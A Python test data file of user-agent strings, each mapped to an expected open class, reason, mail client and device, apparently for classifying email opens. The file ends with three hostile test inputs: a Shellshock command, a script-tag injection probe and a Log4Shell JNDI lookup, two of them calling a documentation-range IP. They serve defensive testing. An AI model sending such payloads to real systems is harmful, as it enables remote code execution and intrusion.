"""User agents as they come, and what we say of each: class, reason, client, device."""

# ruff: noqa: E501 - they are long

from __future__ import annotations

from typing import NamedTuple

from app.opens.models import OpenClass

HUMAN, PROXY, AHEAD, BOT = OpenClass.HUMAN, OpenClass.IMAGE_PROXY, OpenClass.PREFETCH, OpenClass.BOT
COMPUTER, PHONE, TABLET, OTHER, UNKNOWN = "computer", "phone", "tablet", "other", "unknown"
CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
APPLE = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
OUTLOOK = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT"


class Case(NamedTuple):
    name: str
    agent: str
    open_class: OpenClass
    reason: str
    client: str
    device: str


def android(system: str, version: str = CHROME) -> str:
    return f"Mozilla/5.0 (Linux; Android {system}) {version} Mobile Safari/537.36"


def webview(system: str) -> str:
    return (
        f"Mozilla/5.0 (Linux; Android {system}; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
        "Chrome/131.0.6778.39 Mobile Safari/537.36"
    )


CASES = [
    # Mail services that fetch for a reader
    Case("Gmail", "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
         PROXY, "gmail_proxy", "Gmail", UNKNOWN),
    Case("Gmail, old", "Mozilla/5.0 (Windows; U; Windows NT 5.1; de; rv:1.9.0.7) Gecko/2009021910 Firefox/3.0.7 (via ggpht.com)",
         PROXY, "gmail_proxy", "Gmail", UNKNOWN),
    Case("Gmail, by its name alone", "GoogleImageProxy", PROXY, "gmail_proxy", "Gmail", UNKNOWN),
    Case("Yahoo", "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html",
         PROXY, "yahoo_proxy", "Yahoo Mail", UNKNOWN),
    Case("Yahoo, old", "Mozilla/4.0 (compatible; YahooMailProxy/1.0)", PROXY, "yahoo_proxy", "Yahoo Mail", UNKNOWN),
    Case("Seznam", "Mozilla/5.0 (compatible; SeznamEmailProxy/1.0)", PROXY, "seznam_proxy", "Seznam Email", UNKNOWN),
    Case("Rambler", "Mozilla/5.0 (compatible; RamblerMail/6.0; incompatible; ImageProxy/6.0)",
         PROXY, "rambler_proxy", "Rambler Mail", UNKNOWN),
    Case("Fastmail", "FastmailUA/1.0", PROXY, "fastmail_proxy", "Fastmail", UNKNOWN),
    Case("Shortwave", "Shortwave Image Fetcher", PROXY, "shortwave_proxy", "Shortwave", UNKNOWN),
    Case("Another service", "Acme Mail Image Proxy/2.1", PROXY, "mail_proxy", "Mail proxy", UNKNOWN),
    # Ahead of any reader
    Case("Apple Mail Privacy Protection", "Mozilla/5.0", AHEAD, "apple_mpp", "Apple Mail", UNKNOWN),
    Case("Gmail prefetch",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 "
         "Safari/537.36 Edge/12.246 Mozilla/5.0", AHEAD, "gmail_prefetch", "Gmail", UNKNOWN),
    Case("Gmail sampling", "Mozilla/5.0 (Windows NT 6.1; Win64; x64) Gmail-content-sampling",
         AHEAD, "gmail_sampling", "Gmail", UNKNOWN),
    Case("Chrome prefetch", "Chrome Privacy Preserving Prefetch Proxy", AHEAD, "chrome_prefetch", "Chrome", UNKNOWN),
    Case("WhatsApp preview", "WhatsApp/2.24.20.89 A", AHEAD, "preview:WhatsApp", "WhatsApp", UNKNOWN),
    Case("Facebook preview", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
         AHEAD, "preview:Facebook", "Facebook", UNKNOWN),
    Case("Slack preview", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
         AHEAD, "preview:Slack", "Slack", UNKNOWN),
    Case("Slack pictures", "Slack-ImgProxy (+https://api.slack.com/robots)", AHEAD, "preview:Slack", "Slack", UNKNOWN),
    Case("Telegram preview", "TelegramBot (like TwitterBot)", AHEAD, "preview:Telegram", "Telegram", UNKNOWN),
    Case("Discord preview", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
         AHEAD, "preview:Discord", "Discord", UNKNOWN),
    Case("Teams preview", "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
         AHEAD, "preview:Microsoft Teams", "Microsoft Teams", UNKNOWN),
    Case("iMessage preview",
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
         "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", AHEAD, "preview:Facebook", "Facebook", UNKNOWN),
    # Mail programs on computers
    Case("Outlook 2016+", f"{OUTLOOK} 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; Microsoft Outlook 16.0.17328; ms-office; MSOffice 16)",
         HUMAN, "no_rule", "Outlook 2016+", COMPUTER),
    Case("Outlook 2013", f"{OUTLOOK} 6.1; WOW64; Trident/7.0; SLCC2; Microsoft Outlook 15.0.4981; ms-office; MSOffice 15)",
         HUMAN, "no_rule", "Outlook 2013", COMPUTER),
    Case("Outlook 2010", f"{OUTLOOK} 6.1; Trident/7.0; Microsoft Outlook 14.0.7188; ms-office; MSOffice 14)",
         HUMAN, "no_rule", "Outlook 2010", COMPUTER),
    Case("Outlook 2007", f"{OUTLOOK} 5.1; Trident/4.0; .NET CLR 2.0.50727; MSOffice 12)",
         HUMAN, "no_rule", "Outlook 2007", COMPUTER),
    Case("Outlook, short", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.12026; Pro)",
         HUMAN, "no_rule", "Outlook 2016+", COMPUTER),
    Case("Outlook for Mac", "MacOutlook/16.89.24090815 (Intelx64 Mac OS X 14.6.1 (23G93))",
         HUMAN, "no_rule", "Outlook for Mac", COMPUTER),
    Case("New Outlook", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 Edg/131.0.0.0 OneOutlook/1.2024.1016.400",
         HUMAN, "no_rule", "Outlook (new)", COMPUTER),
    Case("Thunderbird", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.4.0",
         HUMAN, "no_rule", "Thunderbird", COMPUTER),
    Case("Thunderbird on Linux", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.16.0",
         HUMAN, "no_rule", "Thunderbird", COMPUTER),
    Case("Apple Mail on a Mac", f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {APPLE}",
         HUMAN, "no_rule", "Apple Mail", COMPUTER),
    Case("Windows Live Mail", f"{OUTLOOK} 6.1; WOW64; Trident/7.0; Windows Live Mail 16.4)",
         HUMAN, "no_rule", "Windows Live Mail", COMPUTER),
    Case("Lotus Notes", "Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)", HUMAN, "no_rule", "Lotus Notes", COMPUTER),
    Case("eM Client", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 eMClient/10.1.4828",
         HUMAN, "no_rule", "eM Client", COMPUTER),
    # Webmail in browsers
    Case("Chrome", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36", HUMAN, "no_rule", "Chrome", COMPUTER),
    Case("Edge", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 Edg/131.0.0.0",
         HUMAN, "no_rule", "Edge", COMPUTER),
    Case("Firefox", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
         HUMAN, "no_rule", "Firefox", COMPUTER),
    Case("Safari", f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {APPLE} Version/18.1 Safari/605.1.15",
         HUMAN, "no_rule", "Safari", COMPUTER),
    Case("Opera", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 OPR/116.0.0.0",
         HUMAN, "no_rule", "Opera", COMPUTER),
    Case("Internet Explorer", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
         HUMAN, "no_rule", "Internet Explorer", COMPUTER),
    Case("Chromebook", f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {CHROME} Safari/537.36", HUMAN, "no_rule", "Chrome", COMPUTER),
    # iPhones and iPads
    Case("iPhone mail", f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {APPLE} Mobile/15E148",
         HUMAN, "no_rule", "Apple Mail", PHONE),
    Case("iPad mail", f"Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) {APPLE} Mobile/15E148",
         HUMAN, "no_rule", "Apple Mail", TABLET),
    Case("iPhone Safari", f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {APPLE} Version/18.1 Mobile/15E148 Safari/604.1",
         HUMAN, "no_rule", "Mobile Safari", PHONE),
    Case("iPhone Chrome", f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) {APPLE} CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
         HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Outlook on iOS", "Outlook-iOS/711.3051210.prod.iphone (4.2443.0)", HUMAN, "no_rule", "Outlook Mobile", PHONE),
    Case("Spark", "Readdle/1 ReaddleSpark/3.1 CFNetwork/1568.200.51 Darwin/24.1.0", HUMAN, "no_rule", "Spark", UNKNOWN),
    # Phones and tablets with Android
    Case("Samsung", android("14; SM-S918B"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Samsung Galaxy A12", android("12; SM-A125M Build/SP1A.210812.016"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Samsung Internet",
         "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 "
         "Chrome/122.0.0.0 Mobile Safari/537.36", HUMAN, "no_rule", "Samsung Internet", PHONE),
    Case("Samsung Mail", webview("14; SM-A546E Build/UP1A.231005.007") + " SamsungEmail/6.1.90.16",
         HUMAN, "no_rule", "Samsung Mail", PHONE),
    Case("Samsung tablet", f"Mozilla/5.0 (Linux; Android 13; SM-X200) {CHROME} Safari/537.36",
         HUMAN, "no_rule", "Chrome", TABLET),
    Case("Motorola", android("13; moto g(60)s Build/T1RLS33M.1-18-22-4"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Motorola mail app", webview("12; moto e32 Build/SOFS32.22-38-6"), HUMAN, "no_rule", "Android app", PHONE),
    Case("Xiaomi", android("13; 2201117TL Build/TKQ1.221114.001"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Xiaomi Redmi browser",
         "Mozilla/5.0 (Linux; U; Android 12; pt-br; Redmi Note 11 Build/SKQ1.211103.001) AppleWebKit/537.36 (KHTML, like "
         "Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.11.0-gn",
         HUMAN, "no_rule", "Mi Browser", PHONE),
    Case("Positivo", android("11; Twist 4 Pro S518 Build/RP1A.200720.011"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Positivo tablet", f"Mozilla/5.0 (Linux; Android 11; Positivo T1085 Build/RP1A.201005.001) {CHROME} Safari/537.36",
         HUMAN, "no_rule", "Chrome", TABLET),
    Case("Multilaser", android("11; Multilaser F Build/RP1A.200720.011"), HUMAN, "no_rule", "Chrome Mobile", PHONE),
    Case("Multilaser tablet", f"Mozilla/5.0 (Linux; Android 11; M7S_GO Build/RP1A.200720.011) {CHROME} Safari/537.36",
         HUMAN, "no_rule", "Chrome", TABLET),
    Case("CUBOT", android("11; CUBOT KINGKONG 5 Pro Build/RP1A.200720.011"), HUMAN, "phone_model", "Chrome Mobile", PHONE),
    Case("CUBOT X18", android("7.0; CUBOT X18 Plus"), HUMAN, "phone_model", "Chrome Mobile", PHONE),
    Case("CUBOT, the build too", android("5.1; CUBOT H2 Build/CUBOT"), HUMAN, "phone_model", "Chrome Mobile", PHONE),
    Case("Android 15 build AP3A", android("15; CPH2609 Build/AP3A.240617.008"), HUMAN, "phone_model", "Chrome Mobile", PHONE),
    Case("Android 15 build AP3A in an app", webview("15; RMX3708 Build/AP3A.240617.008"),
         HUMAN, "phone_model", "Android app", PHONE),
    Case("A model named like a robot", android("12; Spider Crawlerbot X1 Build/SP1A.1"), HUMAN, "no_rule", "Other", PHONE),
    Case("Outlook on Android", "Outlook-Android/2.0", HUMAN, "no_rule", "Outlook Mobile", PHONE),
    Case("Android app", "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)",
         HUMAN, "no_rule", "Android app", PHONE),
    Case("Facebook's browser", webview("16; Pixel 10 Pro XL Build/CP1A.260305.018") + " MetaIAB Facebook",
         HUMAN, "no_rule", "Android app", PHONE),
    Case("Fire tablet",
         "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.4.1 like "
         "Chrome/120.0.6099.269 Safari/537.36", HUMAN, "no_rule", "Amazon Silk", TABLET),
    # Other devices
    Case("Samsung TV",
         "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
         HUMAN, "no_rule", "Safari", OTHER),
    Case("LG TV",
         "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager",
         HUMAN, "no_rule", "Chrome", OTHER),
    Case("PlayStation", f"Mozilla/5.0 (PlayStation; PlayStation 5/8.00) {APPLE} Version/16.0 Safari/605.1.15",
         HUMAN, "no_rule", "Safari", OTHER),
    # Robots
    Case("Googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
         BOT, "crawler:Googlebot", "Googlebot", UNKNOWN),
    Case("Googlebot as a phone",
         "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
         BOT, "crawler:Googlebot", "Googlebot", UNKNOWN),
    Case("bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
         BOT, "crawler:bingbot", "bingbot", UNKNOWN),
    Case("PetalBot", android("7.0;") + " (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
         BOT, "crawler:PetalBot", "PetalBot", UNKNOWN),
    Case("GPTBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
         BOT, "crawler:GPTBot", "GPTBot", UNKNOWN),
    Case("Headless Chrome", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
         BOT, "crawler:HeadlessChrome", "HeadlessChrome", UNKNOWN),
    Case("UptimeRobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
         BOT, "crawler:UptimeRobot", "UptimeRobot", UNKNOWN),
    Case("Pingdom", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", BOT, "crawler:Pingdom", "Pingdom", UNKNOWN),
    Case("On no list", "Mozilla/5.0 (compatible; AcmeNewsbot/3.1; +https://acme.example/bot)",
         BOT, "self_named", "Robot", UNKNOWN),
    Case("curl", "curl/8.10.1", BOT, "library:curl", "curl", UNKNOWN),
    Case("Wget", "Wget/1.24.5", BOT, "library:Wget", "Wget", UNKNOWN),
    Case("requests", "python-requests/2.32.3", BOT, "library:python-requests", "python-requests", UNKNOWN),
    Case("Java", "Java/17.0.9", BOT, "library:java", "java", UNKNOWN),
    Case("Go", "Go-http-client/2.0", BOT, "library:Go", "Go", UNKNOWN),
    Case("okhttp", "okhttp/4.12.0", BOT, "library:okhttp", "okhttp", UNKNOWN),
    Case("axios", "axios/1.7.7", BOT, "library:axios", "axios", UNKNOWN),
    Case("Guzzle", "GuzzleHttp/7", BOT, "library:Guzzle", "Guzzle", UNKNOWN),
    Case("Apache HttpClient", "Apache-HttpClient/4.5.13 (Java/11.0.20)", BOT, "library:HTTP client", "HTTP client", UNKNOWN),
    Case("Office", "Microsoft Office Existence Discovery", BOT, "library:Microsoft Office", "Microsoft Office", UNKNOWN),
    # Mail security that says its name
    Case("Mimecast", f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Safari/537.36 Mimecast-URL-Protect/1.0",
         BOT, "gateway:Mimecast", "Mimecast", UNKNOWN),
    Case("Proofpoint", "Mozilla/5.0 (compatible; Proofpoint URL Defense)", BOT, "gateway:Proofpoint", "Proofpoint", UNKNOWN),
    Case("Barracuda", "BarracudaCentral/1.0 (link check)", BOT, "gateway:Barracuda", "Barracuda", UNKNOWN),
    Case("Trend Micro", "TrendMicro-WTP/2.0", BOT, "gateway:Trend Micro", "Trend Micro", UNKNOWN),
    # Nothing, and junk
    Case("Empty", "", BOT, "empty_agent", "Unknown", UNKNOWN),
    Case("Spaces", "   ", BOT, "empty_agent", "Unknown", UNKNOWN),
    Case("A dash", "-", BOT, "odd_agent", "Unknown", UNKNOWN),
    Case("Half a name", "Mozilla/4.0", BOT, "odd_agent", "Unknown", UNKNOWN),
    Case("null", "null", BOT, "odd_agent", "Unknown", UNKNOWN),
    Case("Figures", "1234 5678 ::", BOT, "odd_agent", "Unknown", UNKNOWN),
    Case("Shellshock", "() { :; }; /bin/ping -c 3 198.51.100.7", BOT, "hostile_agent", "Robot", UNKNOWN),
    Case("A script", "<script>alert(1)</script>", BOT, "hostile_agent", "Robot", UNKNOWN),
    Case("A look-up", "${jndi:ldap://198.51.100.7/a}", BOT, "hostile_agent", "Robot", UNKNOWN),
]  # fmt: skip
